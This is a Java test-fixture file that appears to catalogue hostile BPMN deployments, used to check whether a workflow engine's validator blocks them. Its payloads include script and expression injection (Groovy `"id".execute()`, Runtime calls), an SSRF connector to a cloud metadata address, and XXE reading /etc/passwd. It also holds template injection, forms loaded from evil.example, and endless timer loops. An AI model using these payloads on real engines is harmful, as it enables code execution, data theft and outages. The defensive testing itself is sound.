package dev.tandem.deployment.rules;

import static dev.tandem.deployment.rules.HostileBundle.Bare.REFUSES;
import static dev.tandem.deployment.rules.HostileBundle.Bare.RUNS;
import static dev.tandem.deployment.rules.HostileBundle.Bare.TAKES;
import static dev.tandem.deployment.rules.Models.flow;
import static dev.tandem.deployment.rules.Models.form;
import static dev.tandem.deployment.rules.Models.mail;
import static dev.tandem.deployment.rules.Models.process;
import static dev.tandem.deployment.rules.Models.service;
import static dev.tandem.deployment.rules.Models.step;
import static dev.tandem.deployment.rules.Models.table;
import static dev.tandem.deployment.rules.Models.user;
import static dev.tandem.deployment.rules.Models.work;

import dev.tandem.deployment.rules.HostileBundle.Bare;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;

/** Everything that somebody who may deploy could try, one thing at a time. */
public final class HostileBundles {

    /** The mark that bait leaves, and the name of the bean that leaves it where an engine hands out its beans. */
    public static final String MARK = "corpus";

    public static final String BEAN = "bait";

    private static final String CLASS = "dev.tandem.testing.bare.Bait";
    private static final String EVIL = "${bait.run('corpus')}";

    private final List<HostileBundle> all = new ArrayList<>();

    private HostileBundles() {}

    public static List<HostileBundle> all() {
        HostileBundles bundles = new HostileBundles();
        bundles.scripts();
        bundles.classes();
        bundles.calls();
        bundles.expressions();
        bundles.forms();
        bundles.references();
        bundles.endless();
        bundles.disguises();
        bundles.xml();
        bundles.decisions();
        bundles.otherFiles();
        return bundles.all;
    }

    private void scripts() {
        attack("script task", "no-scripts", RUNS, step("""
                <bpmn:scriptTask id="attack" name="Do it" scriptFormat="juel"><bpmn:script>%s</bpmn:script></bpmn:scriptTask>""".formatted(EVIL)));
        attack("script task in JavaScript", "no-scripts", TAKES, step("""
                <bpmn:scriptTask id="attack" name="Do it" scriptFormat="javascript"><bpmn:script>java.lang.Runtime.getRuntime()</bpmn:script></bpmn:scriptTask>"""));
        attack("script task in Groovy", "no-scripts", TAKES, step("""
                <bpmn:scriptTask id="attack" name="Do it" scriptFormat="groovy"><bpmn:script>"id".execute()</bpmn:script></bpmn:scriptTask>"""));
        attack("script task that takes its script from a file", "no-scripts", TAKES, step("""
                <bpmn:scriptTask id="attack" name="Do it" scriptFormat="juel" camunda:resource="deployment://x.js"/>"""));
        attack("script as execution listener", "no-scripts", RUNS, step(service(mail(), """
                <camunda:executionListener event="start"><camunda:script scriptFormat="juel">%s</camunda:script></camunda:executionListener>""".formatted(EVIL))));
        attack("script as task listener", "no-scripts", RUNS, step(user("", """
                <camunda:taskListener event="create"><camunda:script scriptFormat="juel">%s</camunda:script></camunda:taskListener>""".formatted(EVIL))));
        attack(
                "script as execution listener of the process",
                "no-scripts",
                RUNS,
                "hostile",
                step(service(mail(), "")).replaceFirst("</camunda:properties>", """
                        </camunda:properties><camunda:executionListener event="start"><camunda:script \
                        scriptFormat="juel">\\${bait.run('corpus')}</camunda:script></camunda:executionListener>"""));
        attack("script in an input mapping", "no-scripts", RUNS, step(service(mail(), """
                <camunda:inputOutput><camunda:inputParameter name="x"><camunda:script scriptFormat="juel">%s</camunda:script></camunda:inputParameter></camunda:inputOutput>""".formatted(EVIL))));
        attack("script in an output mapping", "no-scripts", RUNS, step(service(mail(), """
                <camunda:inputOutput><camunda:outputParameter name="x"><camunda:script scriptFormat="juel">%s</camunda:script></camunda:outputParameter></camunda:inputOutput>""".formatted(EVIL))));
        attack("script in a list", "no-scripts", RUNS, step(service(mail(), """
                <camunda:inputOutput><camunda:inputParameter name="x"><camunda:list><camunda:script scriptFormat="juel">%s</camunda:script></camunda:list></camunda:inputParameter></camunda:inputOutput>""".formatted(EVIL))));
        attack("script in a map", "no-scripts", RUNS, step(service(mail(), """
                <camunda:inputOutput><camunda:inputParameter name="x"><camunda:map><camunda:entry key="k"><camunda:script scriptFormat="juel">%s</camunda:script></camunda:entry></camunda:map></camunda:inputParameter></camunda:inputOutput>""".formatted(EVIL))));
        attack("script as condition of a flow", "no-scripts", RUNS, "f3", condition("language=\"juel\"", EVIL));
        attack(
                "script of a file as condition of a flow",
                "no-scripts",
                TAKES,
                "f3",
                condition("language=\"juel\" camunda:resource=\"classpath://x\"", ""));
        attack("script as condition of an event", "no-scripts", TAKES, step("""
                <bpmn:intermediateCatchEvent id="attack"><bpmn:conditionalEventDefinition><bpmn:condition \
                xsi:type="bpmn:tFormalExpression" language="juel">%s</bpmn:condition></bpmn:conditionalEventDefinition></bpmn:intermediateCatchEvent>""".formatted(EVIL)));
        attack(
                "another expression language for the whole model",
                "no-scripts",
                TAKES,
                "definitions",
                step(service(mail(), ""))
                        .replace("id=\"definitions\"", "id=\"definitions\" expressionLanguage=\"javascript\""));
    }

    private void classes() {
        attack("class as service task", "no-classes", RUNS, step(service("camunda:class=\"" + CLASS + "\"", "")));
        attack(
                "class as send task",
                "no-classes",
                RUNS,
                step(work("sendTask", "attack", "camunda:class=\"" + CLASS + "\"", "", "PT10S")));
        attack(
                "class as business rule task",
                "no-classes",
                RUNS,
                step(work("businessRuleTask", "attack", "camunda:class=\"" + CLASS + "\"", "", "PT10S")));
        attack(
                "class as execution listener",
                "no-classes",
                RUNS,
                step(service(mail(), "<camunda:executionListener event=\"start\" class=\"" + CLASS + "\"/>")));
        attack(
                "class as task listener",
                "no-classes",
                RUNS,
                step(user("", "<camunda:taskListener event=\"create\" class=\"" + CLASS + "\"/>")));
        attack(
                "class as listener of a flow",
                "no-classes",
                RUNS,
                "f1",
                step(service(mail(), ""))
                        .replace(
                                flow("f1", "start", "attack"),
                                flow("f1", "start", "attack")
                                        .replace(
                                                "/>",
                                                "><bpmn:extensionElements><camunda:executionListener event=\"take\" class=\""
                                                        + CLASS
                                                        + "\"/></bpmn:extensionElements></bpmn:sequenceFlow>")));
        attack("class as time-out listener of a task", "no-classes", TAKES, step(user("", """
                <camunda:taskListener id="late" event="timeout" class="%s"><bpmn:timerEventDefinition><bpmn:timeDuration>PT1H</bpmn:timeDuration></bpmn:timerEventDefinition></camunda:taskListener>""".formatted(CLASS))));
        attack("class as thrown message", "no-classes", RUNS, step("""
                <bpmn:intermediateThrowEvent id="attack" name="Said"><bpmn:messageEventDefinition messageRef="message_x" camunda:class="%s"/></bpmn:intermediateThrowEvent>""".formatted(CLASS)));
        attack(
                "class as message at the end",
                "no-classes",
                RUNS,
                "end",
                step("""
                <bpmn:manualTask id="x" name="Rest"/>""".replace("x", "attack"))
                        .replace("<bpmn:endEvent id=\"end\" name=\"Done\"/>", """
                <bpmn:endEvent id="end" name="Done"><bpmn:messageEventDefinition camunda:class="%s"/></bpmn:endEvent>""".formatted(CLASS)));
        attack(
                "class that handles the form of a task",
                "no-classes",
                TAKES,
                step(user(
                        "camunda:formHandlerClass=\"org.camunda.bpm.engine.impl.form.handler.DefaultTaskFormHandler\"",
                        "")));
        attack(
                "class that handles the start form",
                "no-classes",
                TAKES,
                "start",
                step(service(mail(), ""))
                        .replace(
                                "<bpmn:startEvent id=\"start\"",
                                "<bpmn:startEvent id=\"start\" camunda:formHandlerClass=\"org.camunda.bpm.engine.impl.form.handler.DefaultStartFormHandler\""));
        attack(
                "class that maps variables of a called process",
                "no-classes",
                TAKES,
                step(
                        "<bpmn:callActivity id=\"attack\" name=\"Call\" calledElement=\"invoice-approval\" camunda:variableMappingClass=\""
                                + CLASS + "\"/>"));
        attack(
                "class in Activiti's namespace",
                "no-classes",
                RUNS,
                step(service("activiti:class=\"" + CLASS + "\" xmlns:activiti=\"http://activiti.org/bpmn\"", "")));
        attack(
                "class under another prefix",
                "no-classes",
                RUNS,
                step(service(
                        "harmless:class=\"" + CLASS + "\" xmlns:harmless=\"http://camunda.org/schema/1.0/bpmn\"", "")));
        attack(
                "class in a sub-process",
                "no-classes",
                RUNS,
                "inner",
                step(inSubProcess(service("camunda:class=\"" + CLASS + "\"", "").replace("\"attack\"", "\"inner\""))));
        attack("class that is injected with values", "known-bpmn-elements", TAKES, step(service(mail(), """
                <camunda:field name="x"><camunda:expression>%s</camunda:expression></camunda:field>""".formatted(
                        EVIL))));
    }

    private void calls() {
        attack(
                "expression as service task",
                "no-calls-by-expression",
                RUNS,
                step(service("camunda:expression=\"" + EVIL + "\"", "")));
        attack(
                "expression that keeps its result",
                "no-calls-by-expression",
                RUNS,
                step(service("camunda:expression=\"" + EVIL + "\" camunda:resultVariable=\"x\"", "")));
        attack(
                "expression as execution listener",
                "no-calls-by-expression",
                RUNS,
                step(service(mail(), "<camunda:executionListener event=\"end\" expression=\"" + EVIL + "\"/>")));
        attack(
                "expression as task listener",
                "no-calls-by-expression",
                RUNS,
                step(user("", "<camunda:taskListener event=\"create\" expression=\"" + EVIL + "\"/>")));
        attack("expression as thrown message", "no-calls-by-expression", RUNS, step("""
                <bpmn:intermediateThrowEvent id="attack" name="Said"><bpmn:messageEventDefinition messageRef="message_x" camunda:expression="%s"/></bpmn:intermediateThrowEvent>""".formatted(EVIL)));
        attack(
                "delegate expression that calls a method",
                "listed-beans-only",
                RUNS,
                step(service("camunda:delegateExpression=\"${bait.run('corpus')}\"", "")));
        attack(
                "delegate expression that names a bean of the program that is not listed",
                "listed-beans-only",
                TAKES,
                step(service("camunda:delegateExpression=\"${runtimeService}\"", "")));
        attack(
                "delegate expression that is put together",
                "listed-beans-only",
                TAKES,
                step(service("camunda:delegateExpression=\"${true ? sendMailDelegate : bait}\"", "")));
        attack(
                "delegate expression from a variable",
                "listed-beans-only",
                TAKES,
                step(service("camunda:delegateExpression=\"${variables.bean}\"", "")));
        attack(
                "delegate expression of a listener",
                "listed-beans-only",
                TAKES,
                step(service(
                        mail(), "<camunda:executionListener event=\"start\" delegateExpression=\"${dataSource}\"/>")));
        attack("bean that maps variables of a called process", "listed-beans-only", TAKES, step("""
                <bpmn:callActivity id="attack" name="Call" calledElement="invoice-approval" camunda:variableMappingDelegateExpression="${bait}"/>"""));
        attack(
                "command of the operating system",
                "no-built-in-work",
                TAKES,
                step(service("camunda:type=\"shell\"", """
                <camunda:field name="command" stringValue="id"/>""")));
        attack("mail by the engine", "no-built-in-work", REFUSES, step(service("camunda:type=\"mail\"", """
                <camunda:field name="to" stringValue="x@example.com"/><camunda:field name="text" stringValue="x"/>""")));
        attack(
                "external task",
                "no-built-in-work",
                TAKES,
                step(service("camunda:type=\"external\" camunda:topic=\"x\"", "")));
        attack(
                "decision by an external task",
                "no-built-in-work",
                TAKES,
                step(work("businessRuleTask", "attack", "camunda:type=\"external\" camunda:topic=\"x\"", "", "PT10S")));
        attack("connector", "no-connectors", REFUSES, step(service("", """
                <camunda:connector><camunda:connectorId>http-connector</camunda:connectorId><camunda:inputOutput><camunda:inputParameter name="url">http://169.254.169.254/</camunda:inputParameter></camunda:inputOutput></camunda:connector>""")));
        attack("connector beside a delegate", "no-connectors", TAKES, step(service(mail(), """
                <camunda:connector><camunda:connectorId>soap-http-connector</camunda:connectorId></camunda:connector>""")));
    }

    private void expressions() {
        attack(
                "method call in a condition",
                "safe-expressions",
                RUNS,
                "f3",
                condition("", "${bait.run('corpus') == 'x'}"));
        attack(
                "class by way of a text",
                "safe-expressions",
                TAKES,
                "f3",
                condition("", "${''.getClass().forName('java.lang.Runtime') != null}"));
        attack(
                "class by way of a property",
                "safe-expressions",
                TAKES,
                "f3",
                condition("", "${amount.class.classLoader == null}"));
        attack(
                "class by way of brackets",
                "safe-expressions",
                TAKES,
                "f3",
                condition("", "${amount['getClass']() == null}"));
        attack(
                "services of the engine in a condition",
                "safe-expressions",
                TAKES,
                "f3",
                condition("", "${execution.processEngineServices.identityService != null}"));
        attack("services of the engine in a mapping", "safe-expressions", TAKES, step(service(mail(), """
                <camunda:inputOutput><camunda:inputParameter name="x">${execution.processEngine}</camunda:inputParameter></camunda:inputOutput>""")));
        attack("method call in a mapping", "safe-expressions", RUNS, step(service(mail(), """
                <camunda:inputOutput><camunda:inputParameter name="x">%s</camunda:inputParameter></camunda:inputOutput>""".formatted(EVIL))));
        attack("method call in the middle of a text", "safe-expressions", RUNS, step(service(mail(), """
                <camunda:inputOutput><camunda:inputParameter name="x">Dear %s, hello</camunda:inputParameter></camunda:inputOutput>""".formatted(
                        EVIL))));
        attack("method call by the other sign", "safe-expressions", RUNS, step(service(mail(), """
                <camunda:inputOutput><camunda:inputParameter name="x">#{bait.run('corpus')}</camunda:inputParameter></camunda:inputOutput>""")));
        attack("method call hidden by a comment", "safe-expressions", RUNS, step(service(mail(), """
                <camunda:inputOutput><camunda:inputParameter name="x">$<!-- -->{bait.r<!-- -->un('corpus')}</camunda:inputParameter></camunda:inputOutput>""")));
        attack("method call hidden by character references", "safe-expressions", RUNS, step(service(mail(), """
                <camunda:inputOutput><camunda:inputParameter name="x">&#36;&#123;bait.run('corpus')}</camunda:inputParameter></camunda:inputOutput>""")));
        attack("method call in CDATA", "safe-expressions", RUNS, step(service(mail(), """
                <camunda:inputOutput><camunda:inputParameter name="x"><![CDATA[${bait.run('corpus')}]]></camunda:inputParameter></camunda:inputOutput>""")));
        attack(
                "method call as name of a task",
                "safe-expressions",
                RUNS,
                step(user("", "").replace("name=\"Look at it\"", "name=\"" + EVIL + "\"")));
        attack(
                "method call as description of a task",
                "safe-expressions",
                RUNS,
                step(
                        user("", "")
                                .replaceFirst(
                                        "<bpmn:extensionElements>",
                                        "<bpmn:documentation>\\${bait.run('corpus')}</bpmn:documentation><bpmn:extensionElements>")));
        attack(
                "method call as assignee",
                "safe-expressions",
                RUNS,
                step(user("camunda:assignee=\"" + EVIL + "\"", "")));
        attack(
                "method call as candidate group",
                "safe-expressions",
                RUNS,
                step(user("", "")
                        .replace("candidateGroups=\"clerks\"", "candidateGroups=\"clerks,${bait.run('corpus')}\"")));
        attack(
                "method call as candidate user",
                "safe-expressions",
                RUNS,
                step(user("camunda:candidateUsers=\"" + EVIL + "\"", "")));
        attack(
                "method call as due date",
                "safe-expressions",
                RUNS,
                step(user("camunda:dueDate=\"${bait.run('corpus') == '' ? null : null}\"", "")));
        attack(
                "method call as follow-up date",
                "safe-expressions",
                RUNS,
                step(user("camunda:followUpDate=\"${bait.run('corpus') == '' ? null : null}\"", "")));
        attack(
                "method call as priority",
                "safe-expressions",
                RUNS,
                step(user("camunda:priority=\"" + EVIL + "\"", "")));
        attack(
                "method call as priority of a job",
                "safe-expressions",
                RUNS,
                step(service(mail() + " camunda:jobPriority=\"" + EVIL + "\"", "")));
        attack(
                "method call as time",
                "safe-expressions",
                RUNS,
                step(timer("<bpmn:timeDuration>" + EVIL + "</bpmn:timeDuration>")));
        attack(
                "method call as date",
                "safe-expressions",
                RUNS,
                step(timer("<bpmn:timeDate>" + EVIL + "</bpmn:timeDate>")));
        attack(
                "method call as cycle",
                "safe-expressions",
                RUNS,
                step(timer("<bpmn:timeCycle>" + EVIL + "</bpmn:timeCycle>")));
        attack(
                "method call as number of instances",
                "safe-expressions",
                RUNS,
                step(Models.user("attack", "", "", loop("<bpmn:loopCardinality>" + EVIL + "</bpmn:loopCardinality>"))));
        attack(
                "method call as end of a repetition",
                "safe-expressions",
                RUNS,
                step(service(mail(), "")
                        .replace(
                                "</bpmn:serviceTask>",
                                loop(
                                                "<bpmn:loopCardinality>2</bpmn:loopCardinality><bpmn:completionCondition>${bait.run('corpus') == ''}</bpmn:completionCondition>")
                                        + "</bpmn:serviceTask>")));
        attack(
                "method call as collection",
                "safe-expressions",
                RUNS,
                step(service(mail(), "")
                        .replace(
                                "</bpmn:serviceTask>",
                                "<bpmn:multiInstanceLoopCharacteristics camunda:collection=\"" + EVIL
                                        + "\"/></bpmn:serviceTask>")));
        attack("method call as source of a mapping into a called process", "safe-expressions", RUNS, step("""
                <bpmn:callActivity id="attack" name="Call" calledElement="invoice-approval"><bpmn:extensionElements><camunda:in sourceExpression="%s" target="x"/></bpmn:extensionElements></bpmn:callActivity>""".formatted(
                        EVIL)));
        attack(
                "method call as message of an error",
                "safe-expressions",
                TAKES,
                "error_x",
                step(
                        "hostile",
                        service(mail(), ""),
                        "<bpmn:error id=\"error_x\" name=\"X\" errorCode=\"x\" camunda:errorMessage=\"" + EVIL
                                + "\"/>"));
        attack("method call as condition of an event", "safe-expressions", TAKES, step("""
                <bpmn:intermediateCatchEvent id="attack"><bpmn:conditionalEventDefinition><bpmn:condition \
                xsi:type="bpmn:tFormalExpression">%s</bpmn:condition></bpmn:conditionalEventDefinition></bpmn:intermediateCatchEvent>""".formatted(EVIL)));
        attack(
                "assignment in an expression",
                "safe-expressions",
                TAKES,
                "f3",
                condition("", "${execution.setVariable('approved', true)}"));
        attack("bean in a condition", "safe-expressions", TAKES, "f3", condition("", "${sendMailDelegate != null}"));
        attack("expression that can't be read", "safe-expressions", REFUSES, "f3", condition("", "${amount > }"));
    }

    private void forms() {
        attack(
                "template of Camunda's pages in the name of a process",
                "no-page-templates",
                TAKES,
                "hostile",
                step(user("", "")).replace("name=\"A process\"", "name=\"{{constructor.constructor('alert(1)')()}}\""));
        attack(
                "template of Camunda's pages in the name of a task",
                "no-page-templates",
                TAKES,
                step("<bpmn:manualTask id=\"attack\" name=\"{{constructor.constructor('alert(1)')()}}\"/>"));
        attack(
                "form of another address",
                "forms-of-the-program",
                TAKES,
                step(user("camunda:formKey=\"embedded:https://evil.example/form.html\"", "")));
        attack(
                "form out of the deployment",
                "forms-of-the-program",
                TAKES,
                step(user("camunda:formKey=\"embedded:deployment:form.html\"", "")));
        attack(
                "form by a path that climbs",
                "forms-of-the-program",
                TAKES,
                step(user("camunda:formKey=\"embedded:/forms/../../api/invoices\"", "")));
        attack(
                "form that is an external page",
                "forms-of-the-program",
                TAKES,
                step(user("camunda:formKey=\"https://evil.example\"", "")));
        attack(
                "form that is a script",
                "forms-of-the-program",
                TAKES,
                step(user("camunda:formKey=\"javascript:alert(1)\"", "")));
        attack(
                "start form out of the deployment",
                "forms-of-the-program",
                TAKES,
                "start",
                step(service(mail(), ""))
                        .replace(
                                "<bpmn:startEvent id=\"start\"",
                                "<bpmn:startEvent id=\"start\" camunda:formKey=\"embedded:deployment:x.html\""));
        attack("form by an expression", "literal-references", TAKES, step(user("camunda:formKey=\"${form}\"", "")));
        attack("generated form", "no-generated-forms", TAKES, step(user("", """
                <camunda:formData><camunda:formField id="x" label="X" type="string"/></camunda:formData>""")));
        attack("validator by a class", "no-generated-forms", TAKES, step(user("", """
                <camunda:formData><camunda:formField id="x" label="X" type="string"><camunda:validation><camunda:constraint name="validator" config="%s"/></camunda:validation></camunda:formField></camunda:formData>""".formatted(CLASS))));
        attack("default value by an expression", "safe-expressions", TAKES, step(user("", """
                <camunda:formData><camunda:formField id="x" label="X" type="string" defaultValue="%s"/></camunda:formData>""".formatted(EVIL))));
        attack("form property with an expression", "no-generated-forms", TAKES, step(user("", """
                <camunda:formProperty id="x" expression="%s"/>""".formatted(EVIL))));
    }

    private void references() {
        attack(
                "called process by an expression",
                "literal-references",
                TAKES,
                step("<bpmn:callActivity id=\"attack\" name=\"Call\" calledElement=\"${key}\"/>"));
        attack(
                "called case",
                "known-bpmn-attributes",
                TAKES,
                step("<bpmn:callActivity id=\"attack\" name=\"Call\" camunda:caseRef=\"x\"/>"));
        attack(
                "called process of a tenant by an expression",
                "known-bpmn-attributes",
                TAKES,
                step(
                        "<bpmn:callActivity id=\"attack\" name=\"Call\" calledElement=\"invoice-approval\" camunda:calledElementTenantId=\"x\"/>"));
        attack(
                "decision by an expression",
                "literal-references",
                TAKES,
                step(work("businessRuleTask", "attack", "camunda:decisionRef=\"${key}\"", "", "PT10S")));
        attack(
                "message by an expression",
                "literal-references",
                TAKES,
                "message_x",
                step("hostile", """
                <bpmn:receiveTask id="attack" name="Wait" messageRef="message_x"/>""", "<bpmn:message id=\"message_x\" name=\"${name}\"/>"));
        attack("list as a variable", "known-bpmn-elements", TAKES, step(service(mail(), """
                <camunda:inputOutput><camunda:inputParameter name="x"><camunda:list><camunda:value>1</camunda:value></camunda:list></camunda:inputParameter></camunda:inputOutput>""")));
        attack("variable with a name that is an expression", "safe-expressions", TAKES, step(service(mail(), """
                <camunda:inputOutput><camunda:inputParameter name="${bait.run('corpus')}">1</camunda:inputParameter></camunda:inputOutput>""")));
        attack("variable with a name that is none", "variable-names", TAKES, step(service(mail(), """
                <camunda:inputOutput><camunda:inputParameter name="a b; drop">1</camunda:inputParameter></camunda:inputOutput>""")));
        attack(
                "starters in the model",
                "no-starters-in-models",
                TAKES,
                "hostile",
                step(service(mail(), ""))
                        .replace(
                                "isExecutable=\"true\"",
                                "isExecutable=\"true\" camunda:candidateStarterGroups=\"sales\""));
        attack(
                "starting user in the model",
                "no-starters-in-models",
                TAKES,
                "hostile",
                step(service(mail(), ""))
                        .replace(
                                "isExecutable=\"true\"",
                                "isExecutable=\"true\" camunda:candidateStarterUsers=\"sales\""));
        attack(
                "potential owner by an expression",
                "known-bpmn-elements",
                TAKES,
                step(user("", "").replace("</bpmn:userTask>", """
                <bpmn:potentialOwner><bpmn:resourceAssignmentExpression><bpmn:formalExpression>group(managers)</bpmn:formalExpression></bpmn:resourceAssignmentExpression></bpmn:potentialOwner></bpmn:userTask>""")));
    }

    private void endless() {
        attack("timer every second", "slow-timers", TAKES, step(timer("<bpmn:timeCycle>R/PT1S</bpmn:timeCycle>")));
        attack(
                "timer every 59 seconds",
                "slow-timers",
                TAKES,
                step(timer("<bpmn:timeCycle>R1000/PT59S</bpmn:timeCycle>")));
        attack("timer without a pause", "slow-timers", TAKES, step(timer("<bpmn:timeCycle>R5/PT0S</bpmn:timeCycle>")));
        attack(
                "start every second",
                "slow-timers",
                TAKES,
                "start",
                starting("<bpmn:timeCycle>R/PT1S</bpmn:timeCycle>"));
        attack(
                "start by cron every second",
                "slow-timers",
                TAKES,
                "start",
                starting("<bpmn:timeCycle>* * * * * ?</bpmn:timeCycle>"));
        attack(
                "start by cron every five seconds",
                "slow-timers",
                TAKES,
                "start",
                starting("<bpmn:timeCycle>0/5 * * * * ?</bpmn:timeCycle>"));
        attack(
                "timer between two moments",
                "slow-timers",
                TAKES,
                step(timer("<bpmn:timeCycle>R100000/2026-01-01T00:00:00/2026-01-01T00:00:01</bpmn:timeCycle>")));
        attack(
                "reminder every second",
                "slow-timers",
                TAKES,
                "late",
                step(user("", "") + """
                <bpmn:boundaryEvent id="late" name="Late" attachedToRef="attack" cancelActivity="false"><bpmn:timerEventDefinition><bpmn:timeCycle>R/PT1S</bpmn:timeCycle></bpmn:timerEventDefinition></bpmn:boundaryEvent>""" + flow("f9", "late", "end")));
        attack(
                "a million retries",
                "few-retries",
                TAKES,
                step(work("serviceTask", "attack", mail(), "", "R1000000/PT1S")));
        attack(
                "retries without a pause",
                "few-retries",
                TAKES,
                step(work("serviceTask", "attack", mail(), "", "R3/PT0S")));
        attack(
                "retries by an expression",
                "few-retries",
                TAKES,
                step(work("serviceTask", "attack", mail(), "", "${cycle}")));
        attack(
                "retries without an end",
                "few-retries",
                TAKES,
                step(work("serviceTask", "attack", mail(), "", "R/PT1S")));
        attack(
                "a million instances",
                "bounded-repetition",
                TAKES,
                step(Models.user("attack", "", "", loop("<bpmn:loopCardinality>1000000</bpmn:loopCardinality>"))));
        attack("instances inside instances", "bounded-repetition", TAKES, "inner", step("""
                <bpmn:subProcess id="attack" name="All">%s%s%s%s</bpmn:subProcess>""".formatted(
                        loop("<bpmn:loopCardinality>1000</bpmn:loopCardinality>"),
                        "<bpmn:startEvent id=\"s\" name=\"S\"/>" + flow("g1", "s", "inner"),
                        Models.user("inner", "", "", loop("<bpmn:loopCardinality>1000</bpmn:loopCardinality>")),
                        flow("g2", "inner", "e") + "<bpmn:endEvent id=\"e\" name=\"E\"/>")));
        attack(
                "loop of automatic steps",
                "no-endless-ways",
                TAKES,
                "a",
                process(
                        "hostile",
                        "<bpmn:startEvent id=\"start\" name=\"Begun\"/>"
                                + flow("f1", "start", "a") + "<bpmn:manualTask id=\"a\" name=\"A\"/>"
                                + flow("f2", "a", "b")
                                + "<bpmn:manualTask id=\"b\" name=\"B\"/>" + flow("f3", "b", "a")));
        attack(
                "loop of jobs",
                "no-endless-ways",
                TAKES,
                "attack",
                process(
                        "hostile",
                        "<bpmn:startEvent id=\"start\" name=\"Begun\"/>" + flow("f1", "start", "attack")
                                + service(mail(), "") + flow("f3", "attack", "attack")));
        attack(
                "loop by links",
                "no-endless-ways",
                TAKES,
                "a",
                process(
                        "hostile",
                        "<bpmn:startEvent id=\"start\" name=\"Begun\"/>"
                                + flow("f1", "start", "a") + "<bpmn:manualTask id=\"a\" name=\"A\"/>"
                                + flow("f2", "a", "throw")
                                + "<bpmn:intermediateThrowEvent id=\"throw\" name=\"L\"><bpmn:linkEventDefinition id=\"l1\" name=\"L\"/></bpmn:intermediateThrowEvent>"
                                + "<bpmn:intermediateCatchEvent id=\"catch\" name=\"L\"><bpmn:linkEventDefinition id=\"l2\" name=\"L\"/></bpmn:intermediateCatchEvent>"
                                + flow("f3", "catch", "a")));
        attack(
                "loop by an error",
                "no-endless-ways",
                TAKES,
                "attack",
                process(
                        "hostile",
                        "<bpmn:startEvent id=\"start\" name=\"Begun\"/>"
                                + flow("f1", "start", "attack") + service(mail(), "") + flow("f2", "attack", "end")
                                + "<bpmn:endEvent id=\"end\" name=\"Done\"/><bpmn:boundaryEvent id=\"failed\" name=\"Failed\" attachedToRef=\"attack\"><bpmn:errorEventDefinition errorRef=\"error_x\"/></bpmn:boundaryEvent>"
                                + flow("f3", "failed", "attack"),
                        "<bpmn:error id=\"error_x\" name=\"X\" errorCode=\"x\"/>"));
        attack(
                "loop with a timer whose time is worked out",
                "no-endless-ways",
                TAKES,
                "attack",
                ring(timer("<bpmn:timeDuration>${'PT0S'}</bpmn:timeDuration>")));
        attack(
                "loop with a condition that holds already",
                "no-endless-ways",
                TAKES,
                "attack",
                ring(
                        "<bpmn:intermediateCatchEvent id=\"attack\" name=\"When\"><bpmn:conditionalEventDefinition><bpmn:condition xsi:type=\"bpmn:tFormalExpression\">${true}</bpmn:condition></bpmn:conditionalEventDefinition></bpmn:intermediateCatchEvent>"));
        attack(
                "loop with a timer of no time",
                "no-endless-ways",
                TAKES,
                "attack",
                process(
                        "hostile",
                        "<bpmn:startEvent id=\"start\" name=\"Begun\"/>" + flow("f1", "start", "attack")
                                + timer("<bpmn:timeDuration>PT0S</bpmn:timeDuration>")
                                + flow("f2", "attack", "attack")));
        attack(
                "loop through a user task that can be passed by",
                "no-endless-ways",
                TAKES,
                "attack",
                process(
                        "hostile",
                        "<bpmn:startEvent id=\"start\" name=\"Begun\"/>" + flow("f1", "start", "attack")
                                + Models.user(
                                        "attack", "", "", loop("<bpmn:loopCardinality>${none}</bpmn:loopCardinality>"))
                                + flow("f2", "attack", "attack")));
        attack(
                "process that calls itself",
                "no-self-starts",
                TAKES,
                step("<bpmn:callActivity id=\"attack\" name=\"Call\" calledElement=\"hostile\"/>"));
        add(HostileBundle.of(
                "processes that call each other",
                "no-self-starts",
                "attack",
                TAKES,
                Map.of(
                        "attack.bpmn", step("<bpmn:callActivity id=\"attack\" name=\"Call\" calledElement=\"other\"/>"),
                        "other.bpmn",
                                step(
                                        "other",
                                        "<bpmn:callActivity id=\"attack\" name=\"Call\" calledElement=\"hostile\"/>",
                                        ""))));
        attack(
                "process that wakes itself by a signal",
                "no-self-starts",
                TAKES,
                "end",
                process(
                        "hostile",
                        "<bpmn:startEvent id=\"start\" name=\"Begun\"><bpmn:signalEventDefinition signalRef=\"signal_x\"/></bpmn:startEvent>"
                                + flow("f1", "start", "end")
                                + "<bpmn:endEvent id=\"end\" name=\"Done\"><bpmn:signalEventDefinition signalRef=\"signal_x\"/></bpmn:endEvent>",
                        "<bpmn:signal id=\"signal_x\" name=\"X\"/>"));
    }

    private void disguises() {
        attack("service task of another namespace", "known-bpmn-elements", REFUSES, step("""
                <x:serviceTask xmlns:x="urn:harmless" id="attack" name="Do it" camunda:class="%s"/>""".formatted(CLASS)));
        attack("script of another namespace in a mapping", "no-scripts", RUNS, step(service(mail(), """
                <camunda:inputOutput><camunda:inputParameter name="x"><x:script xmlns:x="urn:harmless" scriptFormat="juel">%s</x:script></camunda:inputParameter></camunda:inputOutput>""".formatted(
                        EVIL))));
        attack("connector of another namespace", "no-connectors", TAKES, step(service(mail(), """
                <x:connector xmlns:x="urn:harmless"/>""")));
        attack("listener in Activiti's namespace", "known-bpmn-elements", RUNS, step(service(mail(), """
                <a:executionListener xmlns:a="http://activiti.org/bpmn" event="start" class="%s"/>""".formatted(
                        CLASS))));
        attack(
                "element of BPMN in extension elements",
                "known-bpmn-elements",
                REFUSES,
                "x",
                step(service(mail(), "<bpmn:manualTask id=\"x\"/>")));
        attack(
                "attribute that is not known",
                "known-bpmn-attributes",
                TAKES,
                step(service(mail() + " camunda:modelerMagic=\"x\"", "")));
        attack("complex gateway", "known-bpmn-elements", REFUSES, step("<bpmn:complexGateway id=\"attack\"/>"));
        attack(
                "ad hoc sub-process",
                "known-bpmn-elements",
                REFUSES,
                step("<bpmn:adHocSubProcess id=\"attack\" name=\"All\"/>"));
        attack(
                "hostile file beside a harmless one",
                "no-classes",
                RUNS,
                step(service("camunda:class=\"" + CLASS + "\"", "")));
    }

    private void xml() {
        attack(
                "DOCTYPE that reads a file",
                "readable",
                REFUSES,
                null,
                step(service(mail(), ""))
                        .replace("?>", "?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>")
                        .replace("A process", "&e;"));
        attack(
                "DOCTYPE that asks an address",
                "readable",
                REFUSES,
                null,
                step(service(mail(), "")).replace("?>", "?><!DOCTYPE x SYSTEM \"http://127.0.0.1:9/x.dtd\">"));
        attack(
                "entities that grow",
                "readable",
                REFUSES,
                null,
                step(service(mail(), ""))
                        .replace(
                                "?>",
